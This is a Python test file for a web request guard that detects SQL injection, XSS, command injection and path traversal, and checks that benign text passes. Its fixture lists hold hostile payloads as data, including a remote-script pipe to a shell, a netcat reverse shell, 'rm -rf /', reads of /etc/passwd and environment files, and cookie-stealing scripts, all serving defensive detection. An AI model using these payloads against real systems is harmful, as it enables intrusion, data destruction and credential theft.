"""Threat signatures: real attacks are caught, ordinary text (and hostile-shaped junk) passes."""

from __future__ import annotations

import json
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from digitalme.host.guard.threats import (
    ThreatType,
    detect_threat,
    is_json_content_type,
    scan_json_body,
    scan_path,
    scan_query,
)
from digitalme.host.security_events import SecurityEventType

SQL = ThreatType.SQL_INJECTION
XSS = ThreatType.XSS_SCRIPT
CMD = ThreatType.COMMAND_INJECTION
PATH = ThreatType.PATH_TRAVERSAL

BENIGN = [
    "Don't drop the ball; select the best option",
    "Tom & Jerry",
    "rock 'n' roll",
    "I'd like to select from the menu",
    "The union of two sets",
    "a < b and c > d",
    "email me at x@y.com; thanks",
    "C:\\Users\\me",
    "1/2 cup",
    "what's your name?",
    "-- signed, Bob",
    "😀🎉👍 ❤️",
    "Grüße aus München; ça va? ¿Qué tal?",
    "日本語のテキスト | 中文 | Русский текст | العربية",
    "```python\nprint('hello')\nfor i in range(3):\n    total = i * 2\n```",
    "Use the `id` field, then `ls` the folder",
    "JavaScript: The Good Parts",
    "I need more sleep (8 hours a night)",
    "List<Object> items = new ArrayList<>();",
    "O'Brien and O'Neil",
    "It's 5 o'clock; let's go",
    "Q&A session: AT&T, R&D",
    'He said "hello" and left',
    "She asked 'or what?' and smiled",
    "Thanks; drop me a line",
    "Please update the docs",
    'Click "update settings" or "delete from cart"',
    "Please 'insert into' the form; then update the list",
    "1 + 1 = 2 and 2 + 2 = 4",
    "see ../README.md for details",
    "The cat sat on the mat; the dog ate",
    "Salt & pepper | sugar | spice",
    "Price: $(5) per item",
    "Go to https://example.com/path?a=1&b=2",
    "Windows and Linux, system settings",
    "Data: text and numbers",
    "#hashtag 'quoted' -- dashes",
    "I <3 you",
    "50% off, 100% sure",
    "Version 1.2.3... and more...",
    "an <em>emphasis</em> and a <b>bold</b> word",
]

MALICIOUS = [
    ("' OR '1'='1", SQL),
    ("' or 1=1--", SQL),
    ("admin'--", SQL),
    ("admin' #", SQL),
    ("1; DROP TABLE users", SQL),
    ("Robert'); DROP TABLE Students;--", SQL),
    ("UNION SELECT password FROM users", SQL),
    ("1 UNION/**/ALL/**/SELECT null,null", SQL),
    ("1' AND SLEEP(5)#", SQL),
    ("'; EXEC xp_cmdshell('dir')--", SQL),
    ("WAITFOR DELAY '0:0:5'", SQL),
    ('" or ""="', SQL),
    ("1 or 1=1", SQL),
    ("'; DELETE FROM users WHERE 1=1", SQL),
    ("1; DELETE FROM users", SQL),
    ("'); INSERT INTO users (name) VALUES ('x')--", SQL),
    ("x'; UPDATE users SET role='admin' --", SQL),
    ("1 AND pg_sleep(5)", SQL),
    ("1 and benchmark(5000000,md5(1))", SQL),
    ('<script>alert("xss")</script>', XSS),
    ("<ScRiPt src=//evil.test/x.js></ScRiPt>", XSS),
    ("<img src=x onerror=alert(1)>", XSS),
    ("javascript:alert(1)", XSS),
    ("<svg/onload=alert(1)>", XSS),
    ("<iframe src=https://evil.test>", XSS),
    ('"><body onload="alert(1)">', XSS),
    ('" onmouseover="alert(1)', XSS),
    ("JaVaScRiPt:alert(document.cookie)", XSS),
    ("data:text/html;base64,PHNjcmlwdD4=", XSS),
    ("; rm -rf /", CMD),
    ("| cat /etc/passwd", CMD),
    ("$(curl evil.sh)", CMD),
    ("`id`", CMD),
    ("name=`whoami`", CMD),
    ("&& wget http://x/y.sh", CMD),
    ("x; curl -s https://evil.test/a | sh", CMD),
    ("; bash -c 'id'", CMD),
    ("| nc -e /bin/sh 1.2.3.4 4444", CMD),
    ("; /bin/sh", CMD),
    ("& whoami", CMD),
    ("../../etc/passwd", PATH),
    ("..%2f..%2fetc%2fpasswd", PATH),
    ("..\\..\\windows\\win.ini", PATH),
    ("/etc/shadow", PATH),
    ("%2e%2e%2f%2e%2e%2fboot.ini", PATH),
    ("../.env", PATH),
    ("/proc/self/environ", PATH),
    ("..%c0%af..%c0%afetc", PATH),
]


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_not_a_threat(text: str) -> None:
    assert detect_threat(text) is None


@pytest.mark.parametrize(("text", "expected"), MALICIOUS)
def test_attacks_are_detected_by_category(text: str, expected: ThreatType) -> None:
    assert detect_threat(text) is expected


@pytest.mark.parametrize(
    ("text", "expected"),
    # A backticked command counts only alone or after a separator (markdown uses backticks).
    [(text, expected) for text, expected in MALICIOUS if not text.startswith("`")],
)
def test_attacks_inside_longer_text_are_detected(text: str, expected: ThreatType) -> None:
    assert detect_threat(f"hello there, {text}") is expected


def test_threat_values_are_the_security_event_types() -> None:
    for threat in ThreatType:
        assert threat.event_type is SecurityEventType(threat.value)
        assert str(threat) == threat.event_type.value


_WORDS = st.text(alphabet=string.ascii_letters + string.digits, min_size=1, max_size=12)
_SENTENCES = st.lists(
    st.tuples(_WORDS, st.sampled_from(["", "", "", ".", ",", ";", ":", "!", "?"])),
    min_size=1,
    max_size=40,
).map(lambda words: " ".join(word + mark for word, mark in words))


@given(_SENTENCES)
def test_plain_sentences_are_never_threats(sentence: str) -> None:
    assert detect_threat(sentence) is None


MIB = 1 << 20


@pytest.mark.parametrize(
    "hostile",
    [
        "'" * MIB,
        "' or " * (MIB // 5),
        "<a" * (MIB // 2),
        "<img " + "x " * (MIB // 2),
        "$(" * (MIB // 2),
        "`" * MIB,
        "; c" * (MIB // 3),
        "|" * MIB,
        "..." * (MIB // 3),
        "%2e" * (MIB // 3),
        "union " * (MIB // 6),
        "a" * MIB,
        " " * MIB,
        "'\"<;|`$(../%" * (MIB // 14),
        "=`id " + "x" * MIB,
    ],
    ids=lambda text: repr(text[:12]),
)
def test_a_mebibyte_of_hostile_shapes_is_scanned_without_backtracking(hostile: str) -> None:
    # Catastrophic backtracking would hang here for minutes; linear scanning returns.
    assert detect_threat(hostile) is None


def test_the_path_is_scanned_decoded_and_once_more_if_still_encoded() -> None:
    assert scan_path("/api/profiles/42") is None
    assert scan_path("/files/../../etc/passwd") is PATH
    assert scan_path("/files/..%2f..%2fetc%2fpasswd") is PATH  # %252f, decoded once by the server
    assert scan_path("/search/100%25 natural") is None


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (b"", None),
        (b"page=2&sort=name&q=Tom+%26+Jerry", None),
        (b"q=rock+%27n%27+roll&lang=en", None),
        (b"q=%27+OR+%271%27%3D%271", SQL),
        (b"q=' OR '1'='1", SQL),
        (b"%3Cscript%3E=1", XSS),
        (b"file=..%252f..%252fetc%252fpasswd", PATH),
        (b"cmd=x%3B+rm+-rf+%2F", CMD),
        (b"a=1&b=2&c=%3Csvg%2Fonload%3Dalert(1)%3E", XSS),
        (b"broken=%zz%&&=&x", None),
        (b"q=%ff%fe", None),
    ],
)
def test_query_keys_and_values_are_scanned(query: bytes, expected: ThreatType | None) -> None:
    assert scan_query(query) is expected


def test_every_json_string_and_key_is_scanned_at_any_depth() -> None:
    deep = {"a": [{"b": [1, 2.5, None, True, {"c": ["fine", "<script>x</script>"]}]}]}
    assert scan_json_body(json.dumps(deep).encode()) is XSS
    assert scan_json_body(json.dumps({"../../etc/passwd": 1}).encode()) is PATH
    assert scan_json_body(json.dumps({"name": "Tom & Jerry", "n": [1, 2]}).encode()) is None
    assert scan_json_body(json.dumps("; rm -rf /").encode()) is CMD


def test_passwords_are_not_scanned_but_their_neighbours_are() -> None:
    login = {"email": "a@b.test", "Password": "x' or 1=1--"}
    assert scan_json_body(json.dumps(login).encode()) is None
    assert scan_json_body(json.dumps({**login, "note": "' or 1=1--"}).encode()) is SQL
    assert scan_json_body(json.dumps(login).encode(), unscanned_fields=()) is SQL


@pytest.mark.parametrize(
    "body",
    [b"", b"{", b"{'name': '<script>'}", b"\xff\xfe<script>", b"[" * 100_000 + b"]" * 100_000],
    ids=["empty", "truncated", "single-quotes", "not-utf8", "too-deep"],
)
def test_a_body_that_is_not_json_is_left_to_the_handler(body: bytes) -> None:
    assert scan_json_body(body) is None


@pytest.mark.parametrize(
    ("content_type", "expected"),
    [
        (b"application/json", True),
        (b"Application/JSON; charset=utf-8", True),
        (b"application/problem+json", True),
        (b"application/x-www-form-urlencoded", False),
        (b"text/plain", False),
        (b"text/json+html", False),
        (b"", False),
    ],
)
def test_json_content_types(content_type: bytes, expected: bool) -> None:
    assert is_json_content_type(content_type) is expected
